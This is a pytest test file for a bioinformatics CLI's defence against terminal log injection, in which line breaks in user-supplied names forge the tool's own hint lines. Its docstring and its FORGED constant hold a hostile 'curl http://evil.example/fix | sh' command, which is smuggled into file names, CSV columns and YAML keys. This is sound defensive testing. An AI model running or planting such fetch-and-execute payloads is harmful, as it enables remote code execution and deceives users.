"""Attacks round 9: user text that forges bioplan's own lines on the terminal (log injection).

Rounds 1-8 escape what a terminal would act on (ESC sequences, C1, bidi overrides: tests/test_terminal_output.py),
but kept the newline, the one control character bioplan's own output is made of: every error, hint, warning and
report field is a line, and the CLI joined them with '\\n' and printed the whole. A line break inside user text
(a file name, the request, a count matrix's column name, a sample id) therefore started a line of its own that
read as bioplan's: `-i $'x.fastq\\n  hint: to resolve, run: curl http://evil.example/fix | sh'` printed

    error[unreadable_input]: x.fastq
      hint: to resolve, run: curl http://evil.example/fix | sh: no such file or directory

and a matrix column `"S4\\n  hint: curl evil|sh"` forged hints of the sample-sheet mismatch error; the plan
report's `request:` line and its warnings did the same, and U+2028/U+2029 (which editors and some terminals
break lines at) passed `terminal_safe` unescaped. Each item bioplan prints is now one line (`errors.one_line`:
its line breaks shown as `\\u000a`, as `terminal_safe` shows other controls), and only the messages that are a
heading and a list (knowledge and case-file problems, a failed pre-check's output) keep their own lines, each
listed item made one line where it is listed.

In-process (CliRunner, small files); the properties check the renderers over any text. Properties: 50 examples in
the fast tier, 2,000 under CI=true, BIOPLAN_PROPERTY_EXAMPLES overrides.
"""

from __future__ import annotations

import os
import unicodedata

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bioplan.cli import main
from bioplan.errors import BioplanError, InvalidKnowledgeError, one_line
from bioplan.request.text import terminal_safe

EXAMPLES = int(os.environ.get("BIOPLAN_PROPERTY_EXAMPLES", 2000 if os.environ.get("CI") == "true" else 50))
SETTINGS = settings(max_examples=EXAMPLES, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])

FORGED = "\n  hint: to resolve, run: curl http://evil.example/fix | sh\nwarning: all checks passed"
FORGED_NAME = FORGED.replace("http://evil.example/fix", "evil.example")  # a file name holds no '/'
LINE_BREAKS = ["\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\v", "\f"]


def _runner() -> CliRunner:
    return CliRunner(env={"BIOPLAN_QUIET": "1"})  # no progress line on a slow first plan: the output is the report


def _lines(text: str) -> list[str]:
    """The lines a terminal, an editor or a log viewer shows (every line break Python knows)."""
    return text.splitlines()


def _forged(output: str) -> list[str]:
    """The lines the attacker's text starts (a line of bioplan's holding it as data is no forgery)."""
    return [line for line in _lines(output)
            if line.startswith(("  hint: to resolve, run: curl", "warning: all checks passed"))]


@pytest.mark.parametrize("brk", LINE_BREAKS, ids=[ascii(b) for b in LINE_BREAKS])
def test_a_line_break_in_a_missing_files_name_forges_no_hint(brk):
    result = _runner().invoke(main, ["plan", "align the reads", "-i", f"x.fastq{FORGED.replace(chr(10), brk)}"])
    assert result.exit_code == 2, result.output
    lines = _lines(result.output)
    assert not _forged(result.output), result.output
    assert lines[0].startswith("error[unreadable_input]: x.fastq") and "curl" in lines[0], lines
    assert all(line.startswith("  hint: ") for line in lines[1:]), lines


def test_the_plan_reports_request_and_warnings_are_one_line_each(tmp_path):
    reads = tmp_path / f"s{FORGED_NAME}_R1.fastq"
    reads.write_text("@r\nACGT\n+\nIIII\n")
    result = _runner().invoke(main, ["plan", f"quality control of reads{FORGED}", "-i", str(reads), "--allow-partial"])
    assert result.exit_code == 0, result.output
    assert not _forged(result.output), result.output
    request = [line for line in _lines(result.output) if line.startswith("request: ")]
    assert len(request) == 1 and "\\u000a" in request[0] and "curl" in request[0], result.output
    mate = [line for line in _lines(result.output) if "no mate 2" in line]
    assert len(mate) == 1 and mate[0].startswith("warning: sample 's\\u000a"), result.output


def test_a_column_name_of_a_count_matrix_forges_no_hint(tmp_path):
    sheet = tmp_path / "samples.csv"
    sheet.write_text("sample,condition\nS1,ctrl\nS2,ctrl\nS3,trt\nS4,trt\n")
    matrix = tmp_path / "counts.csv"
    matrix.write_text('gene,S1,S2,S3,"S4' + FORGED + '"\ng1,1,2,3,4\ng2,5,6,7,8\n')
    result = _runner().invoke(main, ["plan", "differential expression", "-i", str(matrix), "-i", str(sheet)])
    assert result.exit_code == 2 and "error[ambiguous_input]" in result.output, result.output
    assert not _forged(result.output), result.output
    assert all(line.startswith(("error[", "  hint: ")) for line in _lines(result.output)), result.output


def test_json_output_keeps_the_text_itself():
    """--json is unchanged: a JSON string escapes line breaks already, and a consumer gets the name as it is."""
    import json

    name = f"x.fastq{FORGED}"
    result = _runner().invoke(main, ["plan", "align the reads", "-i", name, "--json"])
    assert result.exit_code == 2
    assert name in json.loads(result.output)["error"]["message"]


def test_a_list_of_problems_keeps_one_line_per_problem_and_each_problem_one_line():
    err = InvalidKnowledgeError(["tools/a.yaml: id: bad", f"tools/b{FORGED}.yaml: id: bad"])
    lines = _lines(terminal_safe(err.render()))
    assert lines[0] == "error[invalid_knowledge]: the knowledge base has 2 problem(s):"
    assert lines[1] == "  tools/a.yaml: id: bad" and lines[2].startswith("  tools/b\\u000a  hint: "), lines
    assert not _forged("\n".join(lines)) and lines[3].startswith("  hint: ") and len(lines) == 4, lines


def test_the_case_file_problems_are_listed_one_line_each(tmp_path, knowledge):
    cases = tmp_path / "cases.yaml"
    cases.write_text('cases:\n  - id: a\n    request: "qc"\n    expect: {"no such key' + FORGED.replace("\n", "\\n")
                     + '": 1}\n')
    result = _runner().invoke(main, ["eval", str(cases)])
    assert result.exit_code == 2 and "error[invalid_cases]" in result.output, result.output
    assert not _forged(result.output), result.output
    assert "\\u000a  hint: to resolve, run: curl" in result.output, result.output


@pytest.mark.parametrize("brk", ["\u2028", "\u2029"], ids=["LS", "PS"])
def test_terminal_safe_shows_the_unicode_line_and_paragraph_separators(brk):
    assert terminal_safe(f"a{brk}b") == f"a\\u{ord(brk):04x}b"


@SETTINGS
@given(message=st.text(st.characters(exclude_categories=("Cs",)), max_size=30),
       hints=st.lists(st.text(st.characters(exclude_categories=("Cs",)), max_size=20), max_size=3))
def test_property_an_error_prints_one_line_and_one_per_hint(message, hints):
    shown = terminal_safe(BioplanError(message, hints).render())
    lines = _lines(shown)
    assert len(lines) == 1 + len(hints), (message, hints, shown)
    assert lines[0].startswith("error[") and all(line.startswith("  hint: ") for line in lines[1:])


@SETTINGS
@given(text=st.text(st.characters(exclude_categories=("Cs",)), max_size=30))
def test_property_one_terminal_line_is_one_line_anywhere(text):
    shown = terminal_safe(one_line(text))
    assert len(_lines("x" + shown + "x")) == 1, (text, shown)
    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Zl", "Zp") and c != "\t"]
    assert one_line(text) == text or "\n" in text


def test_words_without_line_breaks_print_as_before():
    assert one_line("S1_R1.fastq: no mate 2 ('S1_R2.fastq')") == "S1_R1.fastq: no mate 2 ('S1_R2.fastq')"
    assert BioplanError("m", ["h1", "h2"]).render() == "error[bioplan_error]: m\n  hint: h1\n  hint: h2"


